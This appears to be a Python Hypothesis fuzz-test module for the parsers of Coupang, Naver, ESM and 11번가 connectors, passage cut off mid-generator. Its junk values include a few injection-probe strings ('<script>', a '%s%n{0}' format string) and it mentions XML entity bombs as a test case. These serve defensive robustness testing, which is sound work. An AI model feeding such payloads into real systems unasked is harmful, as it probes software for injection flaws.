"""Hypothesis fuzzing of every connector's parsers: bad rows are skipped and counted, bad bodies are ConnectorErrors.

Each connector is driven through `connector.poll()` over `httpx.MockTransport`, whose handler answers the one list
request that carries new items with the generated body (the unanswered-only pass and later pages are empty); the
row-level oracle is the connector's own pure normalizer, applied to each row alone. Properties:
- rows: a page mixes good rows, rows broken on purpose (a required field missing, of the wrong type, or unreadable)
  and rows with 1-3 fields replaced by junk (wrong types, None, nested junk, odd Unicode, numbers for strings and
  back, extreme dates); in one page in four a good row's text is 100k characters. Only MalformedItem may come out
  of a row (the oracle calls the row normalizer alone); every broken row is refused; the poll
  returns every good row with its id, time and answered flag, and counts exactly the refused rows in
  `PollResult.skipped` and in `<source>.item_skipped` log lines (11번가 긴급알리미 counts an open row without a usable
  id twice: its open snapshot reads the same listing). Every Inquiry it returns is well typed and
  storable: UTF-8-encodable text (SQLite cannot store a lone surrogate, which a JSON `\\ud83d` escape produces) and
  aware times that the store and the SLA arithmetic can handle.
- bodies: truncated, non-JSON, HTML, empty, the wrong top-level type, deep nesting, any status with any
  Retry-After; for 11번가 truncated XML, wrong or bogus encoding declarations, undecodable EUC-KR, entity bombs,
  an unbound namespace prefix. A poll either returns or raises a ConnectorError with a sane retry_after_s.

Deterministic by default (derandomize, 80 examples per row property, 100 per body property) so CI stays fast and
stable; INQD_LONG=1 explores at random with 2000-3000 each. No network, no sleeping.
"""

from __future__ import annotations

import contextlib
import functools
import itertools
import json
import math
import os
from collections.abc import Awaitable, Callable, Mapping
from dataclasses import dataclass, replace
from datetime import UTC, datetime, timedelta
from typing import Any
from xml.sax.saxutils import escape

import httpx
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from hypothesis.control import currently_in_test_context
from pydantic import SecretStr
from structlog.testing import capture_logs

from aggregator.store.schema import db_time
from connectors.base import ConnectorError, MalformedItem
from connectors.coupang import rows as coupang_rows
from connectors.coupang.connector import CoupangConnector
from connectors.elevenst import rows as elevenst_rows
from connectors.elevenst.connector import ElevenstConnector
from connectors.esm import rows as esm_rows
from connectors.esm.connector import EsmConnector
from connectors.naver import rows as naver_rows
from connectors.naver.connector import NaverConnector
from core.models import KST, Category, Inquiry, Marketplace, PollResult, StreamKind
from tests.fakes import FakeClock

LONG = os.environ.get("INQD_LONG") == "1"
NOW = datetime(2026, 11, 24, 14, 0, tzinfo=KST)
ACCOUNT = "fuzz"
BASE_URL = "https://marketplace.invalid"  # MockTransport answers every request; nothing is resolved
NAVER_SECRET = "$2a$04$abcdefghijklmnopqrstuu"  # a bcrypt salt of cost 4: the token sign stays fast
ESM_SECRET = "esm-fuzz-secret-0123456789abcdef"
GMARKET_SELLER = "gseller"
PROLOG = '<?xml version="1.0" encoding="EUC-KR" standalone="yes"?>'
NS = "http://skt.tmall.business.openapi.spring.service.client.domain/"
HUGE = 100_000
# A produced time must leave the SLA arithmetic (deadlines, reminders, digests) room to add and subtract.
TIME_HEADROOM = timedelta(days=366)

ROWS = settings(
    max_examples=2000 if LONG else 80,
    deadline=None,
    derandomize=not LONG,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)
BODIES = settings(ROWS, max_examples=3000 if LONG else 100)

Handler = Callable[[httpx.Request], httpx.Response]

# ---------------------------------------------------------------------------------------------------------------
# Values
# ---------------------------------------------------------------------------------------------------------------

# Combining marks, bidi controls, zero-width joiners, BOM, NUL and other controls, CJK compatibility and
# full-width forms, emoji sequences, the last code point, characters outside KS X 1001, escaped HTML, CRLF.
ODD_PIECES = (
    "\u0301",
    "\u0300\u0301\u0302\u0303",
    "\u200b",
    "\u200c",
    "\u200d",
    "\u200e",
    "\u200f",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\x00",
    "\x1b",
    "\x7f",
    "\x85",
    "\u2028",
    "\uf900",
    "\ufa6d",
    "\u3000",
    "\uff21\uff10",
    "👩\u200d💻",
    "🇰🇷",
    "🧑🏻",
    "\U0010fffd",
    "똠햏",
    "ㄱㅏ",
    "&lt;b&gt;",
    "&amp;amp;",
    "&#0;",
    "<script>",
    "\r\n",
    "\ufffd",
    "%s%n{0}",
)
# Valid JSON escapes that decode to lone surrogates: a server cutting a string inside an emoji sends these.
LONE_SURROGATES = ("\ud83d", "\udc00", "x\ud800y")
NUMERIC_LOOKALIKES = ("²", "١٢٣", "１２３", "12a", "-5", "+5", " 7 ", "1e3", "0x1f", "", "00", "9" * 40, "٣", "1_000")
BAD_DATES = (
    "",
    " ",
    "어제",
    "2026-13-01 00:00:00",
    "2026-02-30 10:00:00",
    "24/11/2026",
    "2026-11-24 25:00:00",
    "T",
    "2026-11-24T10:00:00+25:00",
)
EXTREME_DATES = (
    "0001-01-01 00:00:00",
    "0001-01-01T00:00:00+14:00",
    "9999-12-31 23:59:59",
    "9999-12-31T23:59:59-12:00",
    "00010101",
    "99991231235959",
)
DELETE = object()  # a mutation that removes the key
ID = object()  # where a good row's id goes; _page_cases numbers the rows of a page


def _huge(piece: str) -> str:
    return piece * (HUGE // len(piece))


huge_text = st.sampled_from(("가", "a", "\u0301", "👍", "&amp;", "\r\n", "\u200f")).map(_huge)
odd_text = st.lists(st.sampled_from(ODD_PIECES) | st.text(max_size=4), min_size=1, max_size=8).map("".join)
# What a JSON server can put in a string: any code point, lone surrogates included (as \uXXXX escapes).
# What a JSON server can put in a string: any code point, lone surrogates included (as \uXXXX escapes). The
# 100k-character strings go into one body field in about one page in four (see _page_cases): in every field
# they would only make the run slow.
json_text = st.one_of(st.text(max_size=12), odd_text, st.sampled_from(LONE_SURROGATES))


def _xml_char(ch: str) -> bool:
    code = ord(ch)
    return code in (0x9, 0xA, 0xD) or 0x20 <= code <= 0xD7FF or 0xE000 <= code <= 0xFFFD or code >= 0x10000


# What can stand in XML 1.0 text: no NUL, no C0 controls but tab/CR/LF, no surrogates, no U+FFFE/U+FFFF.
xml_text = st.one_of(
    st.text(st.characters(exclude_categories=("Cs", "Cc", "Cn")), max_size=12),  # Cn holds U+FFFE and U+FFFF
    st.lists(st.sampled_from([p for p in ODD_PIECES if all(map(_xml_char, p))]), min_size=1, max_size=8).map("".join),
)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(),  # NaN and Infinity too: Python's json writes and reads them
    st.sampled_from((0, -1, 2**63, 1e308, -0.0)),
    json_text,
    st.sampled_from(NUMERIC_LOOKALIKES + BAD_DATES + EXTREME_DATES),
)
json_junk = st.recursive(
    json_scalars,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=8), inner, max_size=3),
    max_leaves=6,
)
non_object = json_junk.filter(lambda v: not isinstance(v, dict))


# Strategies are built once: building one inside a draw costs more than drawing from it.
TIMES = st.integers(min_value=0, max_value=2 * 86400).map(lambda s: NOW - timedelta(seconds=s))  # before NOW
MAYBE_TIME = st.none() | TIMES
MAYBE_TEXT = st.none() | json_text
MAYBE_DIGITS = st.none() | st.integers(1, 10**15).map(str)
MAYBE_NUMBER = st.none() | st.integers(1, 10**15)
NAVER_CATEGORIES = st.none() | st.sampled_from(("상품", "배송", "반품", "교환", "환불", "기타")) | json_text
ESM_CONTRACT_TYPES = st.none() | st.sampled_from(("배송", "상품(성능/사이즈)", "반품")) | json_text
DEADLINES = st.none() | TIMES.map(lambda d: d + timedelta(days=2))


# ---------------------------------------------------------------------------------------------------------------
# Cases
# ---------------------------------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Expected:
    """What a good row must become."""

    external_id: str
    received_at: datetime
    answered: bool


@dataclass(frozen=True, slots=True)
class RowCase:
    """One row of a page: `good` (with what it must become), `broken` (must be refused) or `junk` (anything)."""

    kind: str
    row: object
    expected: Expected | None = None


@dataclass(frozen=True, slots=True)
class RawXml:
    """An 11번가 field (or whole row) written as raw XML: nested elements, an empty element."""

    xml: str


@dataclass(frozen=True, slots=True)
class RowSpec:
    """How to make rows of one stream, what its required fields refuse, and how to serve and parse a page."""

    name: str
    marketplace: Marketplace
    stream: StreamKind
    source: str
    good: st.SearchStrategy[tuple[dict[str, Any], Expected]]  # the row's id is ID, the expected one ""
    id_prefix: str  # external_id = id_prefix + the number given to the row
    body_key: str  # the free-text field a huge string goes into
    refused: Mapping[str, st.SearchStrategy[object]]  # required field -> values (or DELETE) it must refuse
    junk: st.SearchStrategy[object]  # values that replace fields of junk rows
    to_inquiry: Callable[[object], Inquiry]
    extra_skips: Callable[[object], int]  # rows counted a second time (by a second request's listing)
    page: Callable[[list[object]], bytes]
    poll: Callable[[Handler], Awaitable[PollResult]]
    serve: Callable[[httpx.Response], Handler]


def _mutated(row: dict[str, Any], changes: list[tuple[str, object]]) -> dict[str, Any]:
    out = dict(row)
    for key, value in changes:
        if value is DELETE:
            out.pop(key, None)
        else:
            out[key] = value
    return out


def _numbered(
    spec: RowSpec, drawn: tuple[dict[str, Any], Expected], number: int, text: bool
) -> tuple[dict[str, Any], Expected]:
    """A good row with its id: the number, or its digits as a string (always for 11번가's XML)."""
    row, expected = drawn
    value = str(number) if text or spec.marketplace is Marketplace.ELEVENST else number
    row = {key: value if field is ID else field for key, field in row.items()}
    return row, replace(expected, external_id=f"{spec.id_prefix}{number}")


@st.composite
def _page_cases(draw: st.DrawFn, spec: RowSpec) -> list[RowCase]:
    cases: list[RowCase] = []
    for i in range(draw(st.integers(0, 4))):
        row, expected = _numbered(spec, draw(spec.good), 100 + i, draw(st.booleans()))
        if i == 0 and draw(st.integers(0, 3)) == 0:
            prefix = "Q" if spec.marketplace is Marketplace.ELEVENST else ""  # 11번가 refuses a blank body
            row[_cased(row, spec.body_key)] = prefix + draw(huge_text)
        cases.append(RowCase("good", row, expected))
    for i in range(draw(st.integers(0, 3))):
        if draw(st.booleans()) and spec.marketplace is not Marketplace.ELEVENST:
            cases.append(RowCase("broken", draw(non_object)))
            continue
        row, _ = _numbered(spec, draw(spec.good), 1_000_000 + i, draw(st.booleans()))
        key = draw(st.sampled_from(sorted(spec.refused)))
        cases.append(RowCase("broken", _mutated(row, [(_cased(row, key), draw(spec.refused[key]))])))
    for i in range(draw(st.integers(0, 3))):
        row, _ = _numbered(spec, draw(spec.good), 2_000_000 + i, draw(st.booleans()))
        keys = st.sampled_from([*sorted(row), "unexpected"])
        changes = draw(st.lists(st.tuples(keys, st.just(DELETE) | spec.junk), min_size=1, max_size=3))
        cases.append(RowCase("junk", _mutated(row, changes)))
    return draw(st.permutations(cases))


def _note(text: str) -> None:
    """A hypothesis statistics event (`pytest --hypothesis-show-statistics`), outside of a property a no-op."""
    if currently_in_test_context():
        event(text)


def _assert_storable_text(value: str, field: str) -> None:
    try:
        value.encode("utf-8")
    except UnicodeEncodeError as err:
        raise AssertionError(f"Inquiry.{field} cannot be stored: {err}") from err


def _assert_storable_time(value: datetime, field: str) -> None:
    assert value.tzinfo is not None, f"Inquiry.{field} is naive"
    try:
        db_time(value)
        _ = (value + TIME_HEADROOM, value - TIME_HEADROOM)
    except OverflowError as err:
        raise AssertionError(f"Inquiry.{field} {value!r} is out of the range the store and SLA plans handle") from err


def assert_well_formed(inquiry: Inquiry, spec: RowSpec) -> None:
    """The types the rest of inqd relies on, and values the store can hold."""
    assert inquiry.account_id == ACCOUNT
    assert inquiry.marketplace is spec.marketplace
    assert inquiry.stream is spec.stream
    assert isinstance(inquiry.external_id, str) and inquiry.external_id
    assert isinstance(inquiry.body, str)
    assert isinstance(inquiry.category, Category)
    assert type(inquiry.answered) is bool
    texts = {"external_id": inquiry.external_id, "body": inquiry.body}
    for name in ("title", "product_name", "order_id", "buyer", "site", "answer_ref"):
        value = getattr(inquiry, name)
        assert value is None or isinstance(value, str), f"Inquiry.{name} is {type(value).__name__}"
        if value is not None:
            texts[name] = value
    for name, text in texts.items():
        _assert_storable_text(text, name)
    times = {"received_at": inquiry.received_at, "answered_at": inquiry.answered_at, "deadline_at": inquiry.deadline_at}
    for name, value in times.items():
        assert value is None or isinstance(value, datetime), f"Inquiry.{name} is {type(value).__name__}"
        if value is not None:
            _assert_storable_time(value, name)


async def check_page(spec: RowSpec, cases: list[RowCase]) -> PollResult:
    """Serve `cases` as one page, poll, and hold the result against the row-by-row oracle."""
    first: dict[str, int] = {}  # external_id -> index of the first row that normalizes to it
    refused = 0
    for index, case in enumerate(cases):
        try:
            inquiry = spec.to_inquiry(case.row)  # anything but MalformedItem fails the test: a crash
        except MalformedItem:
            refused += 1
            assert case.kind != "good", f"{spec.name}: a good row was refused: {case.row!r:.300}"
            _note(f"{case.kind} row refused")
            continue
        assert case.kind != "broken", f"{spec.name}: a broken row was accepted: {case.row!r:.300}"
        _note(f"{case.kind} row accepted")
        first.setdefault(inquiry.external_id, index)
    extra = sum(spec.extra_skips(case.row) for case in cases)
    body = spec.page([case.row for case in cases])
    with capture_logs() as logs:
        result = await spec.poll(spec.serve(httpx.Response(200, content=body)))
    by_id = {inquiry.external_id: inquiry for inquiry in result.inquiries}
    assert len(by_id) == len(result.inquiries), "an external_id came out twice"
    assert set(by_id) == set(first)
    assert result.skipped == refused + extra
    assert sum(1 for e in logs if e["event"] == f"{spec.source}.item_skipped") == result.skipped
    for inquiry in result.inquiries:
        assert_well_formed(inquiry, spec)
    for index, case in enumerate(cases):
        if case.expected is not None and first.get(case.expected.external_id) == index:
            got = by_id[case.expected.external_id]
            assert (got.received_at, got.answered) == (case.expected.received_at, case.expected.answered)
    return result


async def check_body(spec: RowSpec, response: httpx.Response) -> PollResult | ConnectorError:
    """Poll once against `response`; only a PollResult or a ConnectorError with a sane retry_after_s may result."""
    try:
        with capture_logs():
            result = await spec.poll(spec.serve(response))
    except ConnectorError as err:
        wait = err.retry_after_s
        assert wait is None or (math.isfinite(wait) and wait >= 0), f"retry_after_s={wait!r}"
        _note(type(err).__name__)
        return err
    _note("polled")
    for inquiry in result.inquiries:
        assert_well_formed(inquiry, spec)
    return result


def _client(handler: Handler) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=BASE_URL, transport=httpx.MockTransport(handler), trust_env=False)


def _json_bytes(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=True).encode("ascii")  # escapes lone surrogates as \udXXX, as JSON may


def _respond(response: httpx.Response) -> httpx.Response:
    """A fresh copy of a canned response (a Response is read once)."""
    return httpx.Response(response.status_code, content=response.content, headers=response.headers)


# ---------------------------------------------------------------------------------------------------------------
# Coupang
# ---------------------------------------------------------------------------------------------------------------

COUPANG_IDS = st.sampled_from([None, -1, 1.5, "12a", "", "²", "١٢٣", True, [], {}, "1 2", DELETE])
JSON_BAD_DATES = st.sampled_from([*BAD_DATES, 123, 1.5, True, [], {}, DELETE])
JSON_NOT_TEXT = st.sampled_from([None, 123, 1.5, True, [], {}, DELETE])


def _coupang_time(at: datetime, offset: bool) -> str:
    local = at.astimezone(KST)
    return local.isoformat(timespec="seconds") if offset else local.strftime("%Y-%m-%d %H:%M:%S")


@st.composite
def _coupang_product(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at, offset = draw(TIMES), draw(st.booleans())
    comments = [
        {"inquiryCommentId": 9000 + i, "content": draw(json_text), "inquiryCommentAt": _coupang_time(c, offset)}
        for i, c in enumerate(draw(st.lists(TIMES, max_size=2)))
    ]
    row = {
        "inquiryId": ID,
        "productId": draw(st.integers(1, 10**12)),
        "vendorItemId": draw(st.integers(1, 10**12)),
        "content": draw(json_text),
        "inquiryAt": _coupang_time(at, offset),
        "commentDtoList": comments,
        "orderIds": draw(st.lists(st.integers(1, 10**15), max_size=2)),
    }
    return row, Expected("", at, bool(comments))


@st.composite
def _coupang_call(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at, offset = draw(TIMES), draw(st.booleans())
    replies = [
        {
            "replyAt": _coupang_time(when, offset),
            "content": draw(json_text),
            "answerType": draw(st.sampled_from(("csAgent", "partner"))),
            "partnerTransferStatus": draw(st.sampled_from(("requestAnswer", "answered", "NONE"))),
            "needAnswer": draw(st.booleans()),
        }
        for when in draw(st.lists(TIMES, max_size=3))
    ]
    counseling = draw(st.sampled_from(("requestAnswer", "answered", "transfer")))
    status = draw(st.sampled_from(("progress", "complete")))
    answered_at = draw(MAYBE_TIME)
    row = {
        "inquiryId": ID,
        "csPartnerCounselingStatus": counseling,
        "inquiryStatus": status,
        "vendorItemId": [draw(st.integers(1, 10**12))],
        "itemName": draw(MAYBE_TEXT),
        "content": draw(json_text),
        "answeredAt": None if answered_at is None else _coupang_time(answered_at, offset),
        "replies": replies,
        "inquiryAt": _coupang_time(at, offset),
        "orderId": draw(MAYBE_NUMBER),
        "receiptCategory": draw(MAYBE_TEXT),
    }
    awaiting = counseling == "requestAnswer" or any(
        r["partnerTransferStatus"] == "requestAnswer" and r["needAnswer"] is True for r in replies
    )
    return row, Expected("", at, status == "complete" or not awaiting)


def _coupang_page(rows: list[object]) -> bytes:
    pagination = {"currentPage": 1, "totalPages": 1, "totalElements": len(rows), "countPerPage": 50}
    return _json_bytes({"code": "200", "message": "OK", "data": {"content": rows, "pagination": pagination}})


def _coupang_serve(response: httpx.Response) -> Handler:
    def handle(request: httpx.Request) -> httpx.Response:
        params = request.url.params
        open_pass = params.get("answeredType") == "NOANSWER" or params.get("partnerCounselingStatus") == "NO_ANSWER"
        if open_pass or params.get("pageNum") != "1":
            return httpx.Response(200, content=_json_bytes({"code": 200, "message": "OK", "data": {"content": []}}))
        return _respond(response)

    return handle


def _coupang_poll(stream: StreamKind) -> Callable[[Handler], Awaitable[PollResult]]:
    async def poll(handler: Handler) -> PollResult:
        clock = FakeClock(NOW)
        connector = CoupangConnector(
            account_id=ACCOUNT,
            vendor_id="A00012345",
            access_key=SecretStr("fuzz-access"),
            secret_key=SecretStr("fuzz-secret"),
            client=_client(handler),
            clock=clock,
            streams=(stream,),
            max_requests_per_s=100.0,
        )
        try:
            return await connector.poll(stream, None, now=clock.now())
        finally:
            await connector.aclose()

    return poll


def _coupang_spec(stream: StreamKind) -> RowSpec:
    product = stream is StreamKind.PRODUCT_QNA
    refused: dict[str, st.SearchStrategy[object]] = {
        "inquiryId": COUPANG_IDS,
        "inquiryAt": JSON_BAD_DATES,
        "content": JSON_NOT_TEXT,
    }
    if product:
        refused["commentDtoList"] = st.sampled_from([{}, "x", 1, [1], [{"inquiryCommentAt": "어제"}], [None]])
    else:
        refused["replies"] = st.sampled_from([{}, "x", 1, [1], [{"replyAt": "어제"}], [None], [{}]])
    return RowSpec(
        name=f"coupang {stream}",
        marketplace=Marketplace.COUPANG,
        stream=stream,
        source="coupang",
        good=_coupang_product() if product else _coupang_call(),
        id_prefix="",
        body_key="content",
        refused=refused,
        junk=json_junk,
        to_inquiry=lambda raw: coupang_rows.to_inquiry(raw, ACCOUNT, stream),
        extra_skips=lambda raw: 0,
        page=_coupang_page,
        poll=_coupang_poll(stream),
        serve=_coupang_serve,
    )


# ---------------------------------------------------------------------------------------------------------------
# Naver
# ---------------------------------------------------------------------------------------------------------------


def _naver_time(at: datetime, zulu: bool) -> str:
    if zulu:
        return at.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return at.astimezone(KST).isoformat(timespec="milliseconds")


@st.composite
def _naver_question(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at, answered = draw(TIMES), draw(st.booleans())
    row = {
        "questionId": ID,
        "createDate": _naver_time(at, draw(st.booleans())),
        "question": draw(json_text),
        "answer": draw(json_text) if answered else None,
        "answered": answered,
        "productId": draw(st.integers(1, 10**12)),
        "productName": draw(MAYBE_TEXT),
        "maskedWriterId": "mins****",
    }
    return row, Expected("", at, answered)


@st.composite
def _naver_inquiry(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at, answered, zulu = draw(TIMES), draw(st.booleans()), draw(st.booleans())
    answered_at = draw(MAYBE_TIME)
    row = {
        "inquiryNo": ID,
        "category": draw(NAVER_CATEGORIES),
        "title": draw(MAYBE_TEXT),
        "inquiryContent": draw(json_text),
        "inquiryRegistrationDateTime": _naver_time(at, zulu),
        "answerRegistrationDateTime": None if answered_at is None else _naver_time(answered_at, zulu),
        "answered": answered,
        "orderId": draw(st.just("") | MAYBE_DIGITS),
        "productName": draw(MAYBE_TEXT),
        "customerId": "minsu0312",
        "customerName": draw(MAYBE_TEXT),
    }
    return row, Expected("", at, answered)


def _naver_page(rows_key: str) -> Callable[[list[object]], bytes]:
    def page(rows: list[object]) -> bytes:
        return _json_bytes({rows_key: rows, "totalElements": len(rows), "totalPages": 1, "first": True, "last": True})

    return page


def _naver_handler(rows_key: str, response: httpx.Response, token: httpx.Response | None = None) -> Handler:
    def handle(request: httpx.Request) -> httpx.Response:
        if request.url.path.endswith("/oauth2/token"):
            if token is not None:
                return _respond(token)
            return httpx.Response(200, json={"access_token": "fuzz-token", "expires_in": 10800})
        params = request.url.params
        if params.get("answered") == "false" or params.get("page") != "1":
            return httpx.Response(200, content=_json_bytes({rows_key: [], "totalPages": 0, "last": True}))
        return _respond(response)

    return handle


def _naver_serve(rows_key: str) -> Callable[[httpx.Response], Handler]:
    return lambda response: _naver_handler(rows_key, response)


def _naver_poll(stream: StreamKind) -> Callable[[Handler], Awaitable[PollResult]]:
    async def poll(handler: Handler) -> PollResult:
        clock = FakeClock(NOW)
        connector = NaverConnector(
            account_id=ACCOUNT,
            client_id="fuzzApp",
            client_secret=SecretStr(NAVER_SECRET),
            client=_client(handler),
            clock=clock,
            streams=(stream,),
            max_requests_per_s=5.0,
        )
        try:
            return await connector.poll(stream, None, now=clock.now())
        finally:
            await connector.aclose()

    return poll


def _naver_spec(stream: StreamKind) -> RowSpec:
    qna = stream is StreamKind.PRODUCT_QNA
    id_key, time_key, text_key = (
        ("questionId", "createDate", "question")
        if qna
        else ("inquiryNo", "inquiryRegistrationDateTime", "inquiryContent")
    )
    rows_key = "contents" if qna else "content"
    return RowSpec(
        name=f"naver {stream}",
        marketplace=Marketplace.NAVER,
        stream=stream,
        source="naver",
        good=_naver_question() if qna else _naver_inquiry(),
        id_prefix="",
        body_key=text_key,
        refused={
            id_key: COUPANG_IDS,
            time_key: JSON_BAD_DATES,
            text_key: JSON_NOT_TEXT,
            "answered": st.sampled_from(["true", 1, 0, None, "false", [], DELETE]),
        },
        junk=json_junk,
        to_inquiry=lambda raw: naver_rows.to_inquiry(raw, ACCOUNT, stream),
        extra_skips=lambda raw: 0,
        page=_naver_page(rows_key),
        poll=_naver_poll(stream),
        serve=_naver_serve(rows_key),
    )


# ---------------------------------------------------------------------------------------------------------------
# ESM (G마켓 / 옥션)
# ---------------------------------------------------------------------------------------------------------------

CASINGS: tuple[Callable[[str], str], ...] = (
    lambda key: key,
    str.lower,
    str.upper,
    lambda key: key[:1].lower() + key[1:],
)


def _esm_time(at: datetime) -> str:
    return at.astimezone(KST).strftime("%Y-%m-%d %H:%M:%S")


@st.composite
def _esm_board(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at = draw(TIMES)
    status = draw(st.sampled_from(("미처리", "처리중", "처리완료", 1, 2, 3, "3", "1")))
    answered = status in (3, "3", "처리완료")
    case = draw(st.sampled_from(CASINGS))
    row = {
        "MessageNo": ID,
        "QnaType": draw(st.sampled_from((3, "3", None))),
        "SellerId": GMARKET_SELLER,
        "GoodsNo": "2001",
        "OrderNo": draw(MAYBE_DIGITS),
        "InformStatus": status,
        "ReceiveDate": _esm_time(at),
        "AnswerDate": _esm_time(draw(TIMES)) if answered and draw(st.booleans()) else None,
        "contractType": draw(ESM_CONTRACT_TYPES),
        "Title": draw(MAYBE_TEXT),
        "Details": draw(json_text),
        "token": draw(MAYBE_TEXT),
        "ReAsking": draw(st.booleans()),
    }
    return {case(k): v for k, v in row.items()}, Expected("", at, answered)


@st.composite
def _esm_urgent(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at = draw(TIMES)
    status = draw(st.sampled_from(("미처리", "처리완료", 1, 3, "3")))
    case = draw(st.sampled_from(CASINGS))
    row = {
        "EmerMessageNo": ID,
        "SellerId": GMARKET_SELLER,
        "SiteType": draw(st.sampled_from(("G", "g", "", None))),
        "Title": draw(MAYBE_TEXT),
        "Contents": draw(json_text),
        "RegDate": _esm_time(at),
        "Status": status,
        "OrderNo": draw(MAYBE_DIGITS),
        "token": draw(MAYBE_TEXT),
    }
    return {case(k): v for k, v in row.items()}, Expected("", at, status in (3, "3", "처리완료"))


def _esm_serve(response: httpx.Response) -> Handler:
    def handle(request: httpx.Request) -> httpx.Response:
        if json.loads(request.content).get("status") == 2:  # the unanswered-only pass
            return httpx.Response(200, content=b"[]")
        return _respond(response)

    return handle


def _esm_poll(stream: StreamKind) -> Callable[[Handler], Awaitable[PollResult]]:
    async def poll(handler: Handler) -> PollResult:
        clock = FakeClock(NOW)
        connector = EsmConnector(
            account_id=ACCOUNT,
            master_id="master1",
            secret_key=SecretStr(ESM_SECRET),
            gmarket_seller_id=GMARKET_SELLER,
            auction_seller_id=None,
            client=_client(handler),
            clock=clock,
            streams=(stream,),
            max_requests_per_s=1.0,
        )
        try:
            return await connector.poll(stream, None, now=clock.now())
        finally:
            await connector.aclose()

    return poll


def _esm_spec(stream: StreamKind) -> RowSpec:
    board = stream is StreamKind.PRODUCT_QNA
    sellers = esm_rows.Sellers(gmarket=GMARKET_SELLER, auction=None)

    def to_inquiry(raw: object) -> Inquiry:
        if board:
            return esm_rows.board_inquiry(raw, ACCOUNT, sellers, 3)
        return esm_rows.urgent_inquiry(raw, ACCOUNT, sellers)

    statuses = st.sampled_from([True, False, "", "  ", [], {}, 1.5, None, DELETE])
    refused: dict[str, st.SearchStrategy[object]] = (
        {"MessageNo": COUPANG_IDS, "ReceiveDate": JSON_BAD_DATES, "Details": JSON_NOT_TEXT, "InformStatus": statuses}
        if board
        else {"EmerMessageNo": COUPANG_IDS, "RegDate": JSON_BAD_DATES, "Contents": JSON_NOT_TEXT, "Status": statuses}
    )
    return RowSpec(
        name=f"esm {stream}",
        marketplace=Marketplace.ESM,
        stream=stream,
        source="esm",
        good=_esm_board() if board else _esm_urgent(),
        id_prefix="G:" if board else "",
        body_key="Details" if board else "Contents",
        refused=refused,
        junk=json_junk,
        to_inquiry=to_inquiry,
        extra_skips=lambda raw: 0,
        page=lambda rows: _json_bytes(rows if board else {"ResultCode": 0, "Message": "성공", "Data": rows}),
        poll=_esm_poll(stream),
        serve=_esm_serve,
    )


# ---------------------------------------------------------------------------------------------------------------
# 11번가 (EUC-KR XML)
# ---------------------------------------------------------------------------------------------------------------

XML_IDS = st.sampled_from(["", " ", "abc", "-1", "1.5", "²", "١٢٣", DELETE, RawXml("<x>1</x>")])
XML_BAD_DATES = st.sampled_from(["", "어제", "2026-13-01", "20261301", "2026-11-24 25:00", "1732420800", DELETE])
XML_BLANK = st.sampled_from(["", "   ", DELETE, RawXml("<b>x</b>")])
xml_junk = st.one_of(
    xml_text,
    st.sampled_from([*NUMERIC_LOOKALIKES, *BAD_DATES, *EXTREME_DATES]).filter(lambda s: all(map(_xml_char, s))),
    st.sampled_from([RawXml(""), RawXml("<a><b>1</b></a>"), RawXml("text<i>x</i>tail"), RawXml("<![CDATA[<x>]]>")]),
)


def _xml_field(name: str, value: object) -> str:
    if isinstance(value, RawXml):
        return f"<{name}>{value.xml}</{name}>"
    return f"<ns2:{name}>{_refs(escape(str(value)))}</ns2:{name}>"


def _xml_row(tag: str, row: object) -> str:
    if isinstance(row, RawXml):
        return row.xml
    assert isinstance(row, dict)
    return f"<ns2:{tag}>" + "".join(_xml_field(k, v) for k, v in row.items()) + f"</ns2:{tag}>"


@functools.lru_cache(maxsize=4096)
def _refs(text: str) -> str:
    """`text` with each character outside EUC-KR as a numeric character reference, as 11번가 sends them.

    By hand and cached: the codec's "xmlcharrefreplace" calls back into Python for every such character.
    """
    return "".join(ch if _in_euc_kr(ch) else f"&#{ord(ch)};" for ch in text)


@functools.cache
def _in_euc_kr(ch: str) -> bool:
    try:
        ch.encode("euc_kr")
    except UnicodeEncodeError:
        return False
    return True


def _xml_doc(root: str, body: str, *, prolog: str = PROLOG) -> bytes:
    text = f'{prolog}<ns2:{root} xmlns:ns2="{NS}">{body}</ns2:{root}>'
    try:
        return text.encode("euc_kr")
    except UnicodeEncodeError:  # a raw fragment; fields are written with _refs already
        return _refs(text).encode("euc_kr")


@st.composite
def _elevenst_qna(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at, answered, bought = draw(TIMES), draw(st.booleans()), draw(st.booleans())
    local = at.astimezone(KST)
    created = draw(
        st.sampled_from([f"{local:%Y-%m-%d %H:%M:%S}.0", f"{local:%Y%m%d%H%M%S}", f"{local:%Y/%m/%d %H:%M:%S}"])
    )
    row = {
        "brdInfoNo": ID,
        "brdInfoClfNo": str(draw(st.integers(1, 10**10))),
        "brdInfoSbjct": draw(xml_text),
        "brdInfoCont": "Q" + draw(xml_text),
        "createDt": created,
        "answerYn": "Y" if answered else draw(st.sampled_from(("N", "", "n"))),
        "answerCont": draw(xml_text) if answered else "",
        "answerDt": f"{NOW:%Y/%m/%d}" if answered and draw(st.booleans()) else "",
        "buyYn": "Y" if bought else "N",
        "ordNoDe": str(draw(st.integers(1, 10**15))) if bought else "",
        "memID": "minsu0312",
        "memNM": draw(xml_text),
        "prdNm": draw(xml_text),
        "qnaDtlsCd": draw(st.sampled_from(("01", "02", "03", "04", "05", "99", ""))),
        "qnaDtlsCdNm": draw(xml_text),
    }
    return row, Expected("", at, answered)


@st.composite
def _elevenst_alimi(draw: st.DrawFn) -> tuple[dict[str, Any], Expected]:
    at = draw(TIMES)
    local = at.astimezone(KST)
    status = draw(st.sampled_from(("01", "02", "03", "04", "05", "06", "")))
    deadline = draw(DEADLINES)
    row = {
        "emerNtceSeq": ID,
        "emerCtntSeq": "1",
